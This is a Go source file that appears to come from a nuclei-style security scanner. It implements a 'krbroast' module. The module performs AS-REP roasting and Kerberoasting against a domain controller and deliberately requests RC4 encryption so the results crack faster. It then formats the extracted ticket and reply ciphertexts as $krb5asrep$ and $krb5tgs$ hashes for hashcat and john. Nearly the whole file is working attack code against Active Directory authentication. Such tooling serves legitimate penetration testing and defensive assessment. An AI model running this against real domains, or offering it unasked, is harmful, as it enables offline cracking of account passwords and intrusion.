package windows

import (
	"encoding/hex"
	"errors"
	"fmt"
	"strings"

	"github.com/dop251/goja"
	"github.com/jcmturner/gokrb5/v8/config"
	"github.com/jcmturner/gokrb5/v8/iana/etypeID"
	"github.com/jcmturner/gokrb5/v8/messages"

	"github.com/vedette-sec/vedette/internal/engine/proto/js/host"
)

// KrbRoast is the module nuclei/krbroast: what nuclei/kerberos asks for, of the kind that is attacked fastest (RC4, if
// the controller gives it), in the forms that hashcat and john take.
func KrbRoast(h *host.Host) *goja.Object {
	names := map[string][]string{
		"ASRepRoastRequest": {"Username", "Domain", "KDCHost", "Format"},
		"KerberoastRequest": {"Username", "Password", "NTHash", "Domain", "KDCHost", "SPN", "TargetUser"},
		"KerberoastResult":  {"Username", "SPN", "Hash", "EType"},
	}
	module := map[string]goja.Value{
		"ASRepRoast": h.Func(h.Waits(func(a *host.Args) (any, error) {
			r, err := roastOf(a.Value(0), names["ASRepRoastRequest"], "Username", "Domain", "KDCHost")
			if err != nil {
				return nil, err
			}
			return r.reply(h)
		})),
		"Kerberoast": h.Func(h.Waits(func(a *host.Args) (any, error) {
			r, err := roastOf(a.Value(0), names["KerberoastRequest"], "Username", "Domain", "KDCHost", "SPN")
			if err != nil {
				return nil, err
			}
			if r["NTHash"] != "" {
				return nil, &host.Missing{Name: "krbroast.Kerberoast with NTHash"}
			}
			if err := r.needs("Password"); err != nil {
				return nil, err
			}
			return r.ticket(h)
		})),
	}
	for name, fields := range names {
		module[name] = h.Class(func(*host.Args) (*goja.Object, error) {
			var empty host.Fields
			for _, field := range fields {
				var zero any = ""
				if field == "EType" {
					zero = 0
				}
				empty = append(empty, host.Field{Name: field, Value: zero})
			}
			o, _ := h.Value(empty).(*goja.Object)
			return o, nil
		})
	}
	return h.Module(module)
}

// roast is a request: its texts by name.
type roast map[string]string

// roastOf reads a request, of which some fields may not be empty.
func roastOf(v goja.Value, fields []string, needed ...string) (roast, error) {
	o, ok := v.(*goja.Object)
	if !ok {
		return nil, errors.New("the request is no object")
	}
	r := roast{}
	for _, field := range fields {
		if text := o.Get(field); text != nil && !goja.IsUndefined(text) && !goja.IsNull(text) {
			r[field] = text.String()
		}
	}
	return r, r.needs(needed...)
}

// needs is an error where one of some fields is empty.
func (r roast) needs(fields ...string) error {
	for _, field := range fields {
		if r[field] == "" {
			return fmt.Errorf("%s is empty", field)
		}
	}
	return nil
}

func (r roast) domain() *domain {
	c := config.New()
	c.LibDefaults.DefaultTktEnctypeIDs = []int32{etypeID.RC4_HMAC}
	c.LibDefaults.DefaultTGSEnctypeIDs = []int32{etypeID.RC4_HMAC}
	return &domain{realm: strings.ToUpper(r["Domain"]), controllers: []string{withPort(r["KDCHost"])}, config: c}
}

// reply is the answer about a user who needs no password for it.
func (r roast) reply(h *host.Host) (any, error) {
	if f := r["Format"]; f != "" && f != "hashcat" && f != "john" {
		return nil, fmt.Errorf("the Format %.20q is neither hashcat nor john", f)
	}
	d := r.domain()
	_, got, err := d.askTGT(h, r["Username"])
	if err != nil {
		return nil, err
	}
	var reply messages.ASRep
	if err := reply.Unmarshal(got); err != nil {
		return nil, err
	}
	return replyText(reply.EncPart.EType, reply.EncPart.Cipher, r["Username"], d.realm, r["Format"] == "john")
}

// aes is whether a kind of encryption has its checksum, of 12 bytes, at the end; RC4 has 16 at the beginning.
func aes(kind int32) bool {
	return kind == etypeID.AES128_CTS_HMAC_SHA1_96 || kind == etypeID.AES256_CTS_HMAC_SHA1_96
}

// parts are the checksum and the data.
func parts(kind int32, cipher []byte) (sum, data string, err error) {
	if len(cipher) < 16 {
		return "", "", errShort
	}
	if aes(kind) {
		n := len(cipher) - 12
		return hex.EncodeToString(cipher[n:]), hex.EncodeToString(cipher[:n]), nil
	}
	return hex.EncodeToString(cipher[:16]), hex.EncodeToString(cipher[16:]), nil
}

func replyText(kind int32, cipher []byte, user, realm string, john bool) (string, error) {
	sum, data, err := parts(kind, cipher)
	switch {
	case err != nil:
		return "", err
	case john && aes(kind):
		return fmt.Sprintf("$krb5asrep$%d$%s%s$%s$%s", kind, realm, user, data, sum), nil
	case john:
		return fmt.Sprintf("$krb5asrep$%s@%s:%s$%s", user, realm, sum, data), nil
	case aes(kind):
		return fmt.Sprintf("$krb5asrep$%d$%s$%s$%s$%s", kind, user, realm, sum, data), nil
	}
	return fmt.Sprintf("$krb5asrep$%d$%s@%s:%s$%s", kind, user, realm, sum, data), nil
}

// ticket is the ticket of a service.
func (r roast) ticket(h *host.Host) (any, error) {
	d, user := r.domain(), r["TargetUser"]
	if user == "" {
		user = r["Username"]
	}
	t, err := d.serviceTicket(h, r["Username"], r["Password"], r["SPN"])
	if err != nil {
		return nil, err
	}
	kind := t.EncPart.EType
	sum, data, err := parts(kind, t.EncPart.Cipher)
	if err != nil {
		return nil, err
	}
	format := "$krb5tgs$%d$*%s$%s$%s*$%s$%s"
	if aes(kind) {
		format = "$krb5tgs$%d$%s$%s$*%s*$%s$%s"
	}
	hash := fmt.Sprintf(format, kind, user, d.realm, strings.ReplaceAll(r["SPN"], ":", "~"), sum, data)
	return host.Fields{
		{Name: "Username", Value: user}, {Name: "SPN", Value: r["SPN"]},
		{Name: "Hash", Value: hash}, {Name: "EType", Value: kind},
	}, nil
}
